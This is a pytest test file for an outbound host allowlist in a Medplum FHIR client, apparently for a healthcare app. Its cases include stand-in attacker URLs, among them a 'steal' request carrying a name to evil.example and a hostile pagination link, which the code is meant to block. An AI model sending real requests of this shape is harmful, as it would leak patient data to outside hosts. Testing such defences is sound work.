"""Outbound allowlist: only Medplum's host:port and explicit entries; refusal happens before
any request reaches the transport (pytest-httpx records every request that does)."""

from __future__ import annotations

import httpx
import pytest
from pytest_httpx import HTTPXMock

from app.integrations.medplum import MedplumClient, OutboundHostNotAllowed
from app.integrations.medplum.transport import AllowlistTransport, OutboundAllowlist
from tests.unit.integrations.conftest import (
    FHIR,
    TOKEN_URL,
    FakeClock,
    RecordingSleep,
    add_token,
    make_config,
)


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("http://127.0.0.1:8103/fhir/R4/Patient", True),
        ("http://127.0.0.1:8104/fhir/R4/Patient", False),
        ("http://127.0.0.1/fhir/R4/Patient", False),
        ("http://localhost:8103/fhir/R4/Patient", False),
        ("https://fhir.partner.example/x", True),
        ("http://fhir.partner.example/x", True),
        ("https://fhir.partner.example:8443/x", False),
        ("https://auth.partner.example:8443/token", True),
        ("https://auth.partner.example/token", False),
        ("https://evil.example/", False),
        ("ftp://127.0.0.1:8103/", False),
    ],
)
def test_allowlist_matches_host_and_port(url: str, allowed: bool) -> None:
    allowlist = OutboundAllowlist(
        "http://127.0.0.1:8103/", ["fhir.partner.example", "Auth.Partner.Example:8443"]
    )
    assert allowlist.permits(httpx.URL(url)) is allowed


async def test_transport_refuses_before_any_request(httpx_mock: HTTPXMock) -> None:
    allowlist = OutboundAllowlist("http://127.0.0.1:8103/")
    transport = AllowlistTransport(allowlist, httpx.AsyncHTTPTransport())
    async with httpx.AsyncClient(transport=transport) as client:
        with pytest.raises(OutboundHostNotAllowed) as caught:
            await client.get("https://evil.example/steal?name=Someone")

    assert httpx_mock.get_requests() == []
    assert "evil.example:443" in str(caught.value)
    assert "Someone" not in str(caught.value)  # the path and query are never quoted


async def test_server_supplied_next_link_to_another_host_is_refused(
    httpx_mock: HTTPXMock, medplum: MedplumClient
) -> None:
    add_token(httpx_mock)
    httpx_mock.add_response(
        url=FHIR + "Task",
        json={
            "resourceType": "Bundle",
            "type": "searchset",
            "entry": [],
            "link": [{"relation": "next", "url": "https://evil.example/fhir/R4/Task?page=2"}],
        },
    )

    with pytest.raises(OutboundHostNotAllowed):
        await medplum.search_all("Task")

    sent = [str(request.url) for request in httpx_mock.get_requests()]
    assert sent == [TOKEN_URL, FHIR + "Task"]


async def test_token_and_fhir_urls_follow_a_custom_base_url(
    httpx_mock: HTTPXMock, clock: FakeClock, sleeps: RecordingSleep
) -> None:
    async with MedplumClient(
        make_config(base_url="https://medplum.example/", allowed_hosts=("cdn.example",)),
        clock=clock,
        sleep=sleeps,
    ) as medplum:
        httpx_mock.add_response(
            method="POST",
            url="https://medplum.example/oauth2/token",
            json={"access_token": "t", "expires_in": 3600},
        )
        httpx_mock.add_response(
            url="https://medplum.example/fhir/R4/Patient/p1",
            json={"resourceType": "Patient", "id": "p1"},
        )
        await medplum.read("Patient", "p1")
    assert medplum.allowlist.permits(httpx.URL("https://cdn.example/x"))
    assert not medplum.allowlist.permits(httpx.URL("https://medplum.example:8443/x"))
